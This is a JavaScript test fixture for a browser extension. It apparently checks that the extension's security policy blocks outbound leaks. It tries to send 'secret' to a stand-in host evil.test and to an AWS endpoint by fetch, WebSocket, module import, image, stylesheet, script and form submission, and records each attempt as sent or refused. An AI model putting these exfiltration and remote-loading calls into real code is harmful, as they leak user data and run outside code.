// @ts-check
// Runs before our own code in a copy of the extension, like injected code: it tries to send data out.

{
  const AWAY = "https://evil.test";
  /** @type {RequestInit} */
  const BODY = { method: "POST", mode: "no-cors", body: "secret" };
  /** @type {Record<string, Promise<unknown>>} */
  const attempts = {
    "another host": fetch(`${AWAY}/fetch`, BODY),
    "another host of AWS": fetch("https://s3.us-east-1.amazonaws.com/", BODY),
    "a socket": new Promise((resolve, reject) => {
      const socket = new WebSocket("wss://evil.test/socket");
      socket.onopen = resolve;
      socket.onerror = reject;
    }),
    "a module": import(`${AWAY}/module.js`),
  };
  if (globalThis.document) {
    /** @param {HTMLElement} element @param {Record<string, string>} properties */
    const loaded = (element, properties) =>
      new Promise((resolve, reject) => {
        Object.assign(element, properties, { onload: resolve, onerror: reject });
        // In Firefox a style sheet that is refused has no other event.
        addEventListener("securitypolicyviolation", ({ blockedURI }) => {
          if (blockedURI.startsWith(AWAY) && Object.values(properties).some((value) => value.startsWith(blockedURI))) reject(blockedURI);
        });
        document.documentElement.append(element);
      });
    attempts["an image"] = loaded(document.createElement("img"), { src: `${AWAY}/image` });
    attempts["a style sheet"] = loaded(document.createElement("link"), { rel: "stylesheet", href: `${AWAY}/style` });
    attempts["a script"] = loaded(document.createElement("script"), { src: `${AWAY}/script` });
    attempts["a form"] = new Promise((resolve, reject) => {
      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
        if (effectiveDirective === "form-action") reject(effectiveDirective);
      });
      addEventListener("pagehide", resolve);
      const form = Object.assign(document.createElement("form"), { method: "post", action: `${AWAY}/form` });
      document.documentElement.append(form);
      addEventListener("load", () => form.submit()); // An earlier submit would stop the loading.
    });
  }
  const outcomes = Object.entries(attempts).map(async ([name, attempt]) => {
    const outcome = await attempt.then(() => "sent", () => "refused");
    return [name, outcome];
  });
  Object.assign(globalThis, { leaks: Promise.all(outcomes).then(Object.fromEntries) });
}
